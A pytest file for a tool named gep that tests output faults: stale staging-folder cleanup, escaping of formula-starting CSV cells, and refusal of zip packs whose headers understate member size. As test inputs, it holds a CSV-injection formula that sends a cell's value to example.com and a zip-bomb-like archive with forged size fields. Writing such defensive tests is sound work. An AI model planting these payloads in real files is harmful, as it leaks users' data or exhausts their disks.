"""Faults around outputs (issue 13): staging folders left by killed runs, formulas in CSV cells, and packs
whose zip headers lie about their size.

Runs use the tiny inventory of conftest.py (two townships, 2020–2021), not Chengkou, to stay fast."""
from __future__ import annotations

import csv
import io
import json
import os
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from gep import audit
from gep.audit import AuditError, extract_pack, verify
from gep.cli import main
from gep.explain import explain_text
from gep.outputs import cell_texts, write_csv
from gep.jobfolder import STAGING_MARKER, remove_stale_staging, staged

from conftest import tiny_tables, write_tables

# ----------------------------------------------------------------------------------------------
# staging folders of killed runs


def dead_pid() -> int:
    """The pid of a process that has exited (and been reaped): no process has it until the system reuses it."""
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def partial(parent: Path, out_name: str, suffix: str, marker: dict | None) -> Path:
    """A staging folder as a run to ``parent/out_name`` leaves it, with some output in it, and ``marker``
    (None: no marker, as an older gep or a run killed before writing it leaves it)."""
    folder = parent / f".{out_name}.partial-{suffix}"
    folder.mkdir()
    (folder / "gep_services.csv").write_text("half written", encoding="utf-8")
    if marker is not None:
        (folder / STAGING_MARKER).write_text(json.dumps(marker), encoding="utf-8")
    return folder


def marker(pid: int, host: str | None = None, **extra) -> dict:
    return {"pid": pid, "host": host or socket.gethostname(), "started": "2024-01-01T00:00:00Z", **extra}


def test_killed_runs_staging_folder_is_removed_by_the_next_run(tmp_path, tiny):
    # the marker names a process of this host that has exited: the run that wrote it is gone
    killed = partial(tmp_path, "out", "deadbeef", marker(dead_pid()))
    assert main(["run", str(tiny), "--out", str(tmp_path / "out")]) == 0
    assert not killed.exists()
    assert (tmp_path / "out" / "gep_services.csv").is_file()


def test_staging_folder_of_a_running_process_is_kept(tmp_path, tiny):
    # the current process runs, so its staging folder is one of a run in progress, whatever the next run does
    running = partial(tmp_path, "out", "live0000", marker(os.getpid()))
    assert main(["run", str(tiny), "--out", str(tmp_path / "out")]) == 0
    assert (running / "gep_services.csv").read_text(encoding="utf-8") == "half written"


def test_a_run_in_progress_survives_a_second_runs_cleanup(tmp_path):
    # two runs to one --out: the second cleans up when the first is between writing and publishing
    out = tmp_path / "out"
    with staged(out) as stage:
        (stage.path / "gep_summary.csv").write_text("first run", encoding="utf-8")
        assert remove_stale_staging(out) == []
        assert (stage.path / "gep_summary.csv").is_file()
    assert (out / "gep_summary.csv").read_text(encoding="utf-8") == "first run"
    assert not (out / STAGING_MARKER).exists()  # the marker is not published


@pytest.mark.skipif(not Path(f"/proc/{os.getpid()}/stat").is_file(), reason="process start times from /proc")
def test_a_reused_pid_does_not_keep_a_killed_runs_folder(tmp_path):
    # the pid is alive but started at another time than the marker says: a later process took the pid
    reused = partial(tmp_path, "out", "reused00", marker(os.getpid(), process_start="1"))
    assert remove_stale_staging(tmp_path / "out") == [reused]


def test_staging_folders_whose_owner_cannot_be_checked_are_removed_only_when_a_day_old(tmp_path):
    # no marker (an older gep, or killed before writing it) or another host: the pid says nothing, the age does
    young_bare = partial(tmp_path, "out", "bare0000", None)
    young_remote = partial(tmp_path, "out", "remote00", marker(dead_pid(), host="another-host"))
    old_bare = partial(tmp_path, "out", "bare0001", None)
    old_remote = partial(tmp_path, "out", "remote01", marker(dead_pid(), host="another-host"))
    two_days_ago = time.time() - 2 * 24 * 3600
    for folder in (old_bare, old_remote / STAGING_MARKER):
        os.utime(folder, (two_days_ago, two_days_ago))
    assert remove_stale_staging(tmp_path / "out") == [old_bare, old_remote]
    assert young_bare.is_dir() and young_remote.is_dir()


def test_only_staging_folders_of_the_same_output_are_touched(tmp_path):
    # a killed run's folders for other outputs ("out2", "out.partial-x") and a look-alike not named by mkdtemp
    others = [partial(tmp_path, "out2", "deadbeef", marker(dead_pid())),
              partial(tmp_path, "out.partial-deadbeef", "deadbeef", marker(dead_pid())),
              partial(tmp_path, "out", "notmkdtemp", marker(dead_pid()))]
    assert remove_stale_staging(tmp_path / "out") == []
    assert all(p.is_dir() for p in others)


def test_published_run_has_no_marker_and_reruns_are_byte_identical(tmp_path, tiny):
    a, b = tmp_path / "a", tmp_path / "b"
    assert main(["run", str(tiny), "--out", str(a)]) == 0
    assert main(["run", str(tiny), "--out", str(b)]) == 0
    assert not list(a.rglob(STAGING_MARKER))
    ma = json.loads((a / "manifest.json").read_text(encoding="utf-8"))
    mb = json.loads((b / "manifest.json").read_text(encoding="utf-8"))
    assert not any(STAGING_MARKER in name for name in ma["outputs"])
    assert ma["outputs"] == mb["outputs"] and ma["inputs"] == mb["inputs"]


# ----------------------------------------------------------------------------------------------
# formulas in CSV cells


def test_text_cells_that_start_a_formula_get_an_apostrophe(tmp_path):
    # OWASP's rule: a text cell beginning with = + - @ tab or carriage return is a formula to Excel; an
    # apostrophe first makes it text. Numbers are not text: -1.5 stays a number, in a numeric column or not.
    texts = ["=1+1", "+x", "-x", "@x", "\tx", "\rx", "ok", "x=1", "'x", "'=x", None]
    frame = pd.DataFrame({"text": texts, "number": [-1.5] * len(texts),
                          "mixed": pd.Series([-1.5, "-2"] + ["x"] * (len(texts) - 2), dtype=object),
                          "boxed": pd.Series([-1.5] * len(texts), dtype=object)})  # numbers held as objects
    path = tmp_path / "t.csv"
    write_csv(frame, path)
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["text", "number", "mixed", "boxed"]
    # "'=x" already begins with an apostrophe but would read back as "=x" once one apostrophe is removed, so
    # it gets one more; "'x" and "x=1" start no formula and stay as they are; an empty cell stays empty
    assert [r[0] for r in rows[1:]] == ["'=1+1", "'+x", "'-x", "'@x", "'\tx", "'\rx", "ok", "x=1", "'x", "''=x", ""]
    assert {r[1] for r in rows[1:]} == {r[3] for r in rows[1:]} == {"-1.5"}
    assert [r[2] for r in rows[1:3]] == ["-1.5", "'-2"]  # a number in a text column stays one; text "-2" does not
    # the carriage return is inside quotes, so the file still has one line per row
    assert len(path.read_bytes().split(b"\n")) == len(texts) + 2
    # read back, every text is what was written, the apostrophes added removed
    back = cell_texts(pd.read_csv(path, keep_default_na=False, na_values=[""]))
    assert back["text"].tolist()[:-1] == texts[:-1] and pd.isna(back["text"].iloc[-1])


def test_a_file_without_such_cells_is_written_as_before(tmp_path):
    # the Chengkou outputs hold no text starting a formula (only negative numbers), so they stay byte-identical
    frame = pd.DataFrame({"region_name": ["甲镇", "乙乡"], "change_yuan": [-170582166.12357903, 2.0],
                          "note": ["", "a, \"quoted\" note"]})
    path = tmp_path / "t.csv"
    write_csv(frame, path)
    before = frame.to_csv(index=False, lineterminator="\n").encode("utf-8")
    assert path.read_bytes() == before


HYPERLINK = '=HYPERLINK("http://example.com/?leak="&A1,"click")'


def test_a_region_named_like_a_formula_is_safe_and_the_run_still_verifies(tmp_path):
    # township 990001 named like a formula, and coded -990001: both are text that starts a formula
    tables = tiny_tables()
    tables = {name: [{c: "-990001" if v == "990001" else v for c, v in row.items()} for row in rows]
              for name, rows in tables.items()}
    tables["regions"][1]["name"] = HYPERLINK
    inventory = write_tables(tmp_path / "tiny", tables)
    out = tmp_path / "out"
    assert main(["run", str(inventory), "--out", str(out)]) == 0
    with open(out / "gep_services.csv", newline="", encoding="utf-8") as fh:
        names = {row["region_code"]: row["region_name"] for row in csv.DictReader(fh)}
    assert names == {"'-990001": "'" + HYPERLINK, "990002": "乙乡", "990000": "示例县"}  # text in Excel, not run
    # gep reads its own output back: verify compares it figure by figure, explain finds and prints the text as given
    assert verify(out).ok
    text = explain_text(out, "-990001", 2020, "water_conservation", "water_retained", "forest", lang="en")
    assert text.startswith(HYPERLINK + " -990001 · 2020")
    assert "\nInputs:\n" in text and "\nSteps:\n" in text  # the township's own trace, found by its code
    # a differing figure is named by its key as given, not as written for spreadsheets
    with open(out / "gep_services.csv", newline="", encoding="utf-8") as fh:
        header, *rows = list(csv.reader(fh))
    key = [header.index(c) for c in ("region_code", "year", "indicator", "ecosystem")]
    altered = next(r for r in rows if [r[i] for i in key] == ["'-990001", "2020", "water_retained", "forest"])
    altered[header.index("quantity")] = "1.0"
    with open(out / "gep_services.csv", "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh, lineterminator="\n").writerows([header, *rows])
    result = verify(out)
    assert [d[:3] for d in result.differing] == [
        ("gep_services.csv -990001/2020/water_conservation/water_retained/forest", "quantity", "1.0")]


# ----------------------------------------------------------------------------------------------
# packs whose zip headers lie


@pytest.fixture(scope="module")
def tiny_pack_bytes(tmp_path_factory) -> bytes:
    """A pack of one tiny run, as bytes (each test writes its own copy)."""
    base = tmp_path_factory.mktemp("faults-pack")
    run = base / "tiny-run"
    assert main(["run", str(write_tables(base / "tiny", tiny_tables())), "--out", str(run)]) == 0
    assert main(["pack", str(run)]) == 0
    return (base / "tiny-run.gep-pack.zip").read_bytes()


def declare_size(data: bytes, member: str, size: int) -> bytes:
    """The zip ``data`` with ``member``'s uncompressed size set to ``size`` in its local header and in the
    central directory (offsets 22 and 24 of those records, APPNOTE 4.3.7 and 4.3.12)."""
    out, name = bytearray(data), member.encode()
    for signature, size_at, name_length_at, name_at in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
        found = 0
        at = out.find(signature)
        while at >= 0:
            length = struct.unpack_from("<H", out, at + name_length_at)[0]
            if out[at + name_at:at + name_at + length] == name:
                struct.pack_into("<I", out, at + size_at, size)
                found += 1
            at = out.find(signature, at + 4)
        assert found == 1, (signature, member)
    return bytes(out)


BOMB = "tiny-run/bomb.bin"
BOMB_BYTES = 4 << 20  # 4 MiB of zeros deflate to some 4 KiB


def lying_pack(tmp_path: Path, tiny_pack_bytes: bytes) -> Path:
    """The tiny pack with one more member, 4 MiB of zeros, whose headers declare 1,000 bytes."""
    buffer = io.BytesIO(tiny_pack_bytes)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(BOMB, bytes(BOMB_BYTES))
    pack = tmp_path / "lying.gep-pack.zip"
    pack.write_bytes(declare_size(buffer.getvalue(), BOMB, 1000))
    with zipfile.ZipFile(pack) as zf:  # as a reader sees it: small
        assert zf.getinfo(BOMB).file_size == 1000
    return pack


def test_a_pack_whose_header_understates_a_member_is_refused_and_nothing_is_left(tmp_path, tiny_pack_bytes,
                                                                                  monkeypatch, capsys):
    pack = lying_pack(tmp_path, tiny_pack_bytes)
    scratch = tmp_path / "scratch"  # where verify extracts: nothing may remain there
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    assert main(["verify", str(pack)]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith("gep: ") and f"member '{BOMB}'" in err[0]
    assert list(scratch.iterdir()) == []
    # extracting alone: the members extracted before the lying one are removed with it
    dest = tmp_path / "dest"
    dest.mkdir()
    with pytest.raises(AuditError, match=f"member '{BOMB}'"):
        extract_pack(pack, dest)
    assert list(dest.iterdir()) == []


def test_extraction_stops_at_the_declared_size_whatever_the_reader_returns(tmp_path, tiny_pack_bytes, monkeypatch):
    # Python's zipfile itself stops at the declared size (the CRC then fails); a reader that returned all the
    # data must not get further than one byte past it: the count of bytes written is what stops extraction
    pack = lying_pack(tmp_path, tiny_pack_bytes)
    read = []
    opened = zipfile.ZipFile.open

    class Unbounded(io.BytesIO):
        def read(self, n=-1):
            chunk = super().read(n)
            read.append(len(chunk))
            return chunk

    def open_unbounded(self, member, *args, **kwargs):
        name = member.filename if isinstance(member, zipfile.ZipInfo) else member
        return Unbounded(bytes(BOMB_BYTES)) if name == BOMB else opened(self, member, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "open", open_unbounded)
    dest = tmp_path / "dest"
    dest.mkdir()
    with pytest.raises(AuditError, match=f"member '{BOMB}' holds more data than its header declares"):
        extract_pack(pack, dest)
    assert sum(read) == 1001  # the 1,000 bytes declared and the one that shows there is more
    assert list(dest.iterdir()) == []


def test_members_and_packs_over_the_caps_are_refused_before_anything_is_extracted(tmp_path, tiny_pack_bytes,
                                                                                  monkeypatch):
    pack = tmp_path / "tiny.gep-pack.zip"
    pack.write_bytes(tiny_pack_bytes)
    with zipfile.ZipFile(pack) as zf:
        sizes = {i.filename: i.file_size for i in zf.infolist()}
    largest = max(sizes, key=sizes.get)
    dest = tmp_path / "dest"
    dest.mkdir()
    # one byte less than the largest member may hold: that member is named
    monkeypatch.setattr(audit, "MAX_MEMBER_BYTES", sizes[largest] - 1)
    with pytest.raises(AuditError, match=f"member '{largest}' would unpack to"):
        extract_pack(pack, dest)
    # every member fits, but not all together
    monkeypatch.setattr(audit, "MAX_MEMBER_BYTES", sizes[largest])
    monkeypatch.setattr(audit, "MAX_UNPACKED_BYTES", sum(sizes.values()) - 1)
    with pytest.raises(AuditError, match="it would unpack to"):
        extract_pack(pack, dest)
    # everything is allowed, but the disk is full
    monkeypatch.setattr(audit, "MAX_UNPACKED_BYTES", sum(sizes.values()))
    with monkeypatch.context() as m:
        m.setattr(shutil, "disk_usage", lambda _: shutil._ntuple_diskusage(10 ** 9, 10 ** 9, 1000))
        with pytest.raises(AuditError, match="free"):
            extract_pack(pack, dest)
    assert list(dest.iterdir()) == []
    assert (extract_pack(pack, dest) / "manifest.json").is_file()  # at the caps themselves, it unpacks
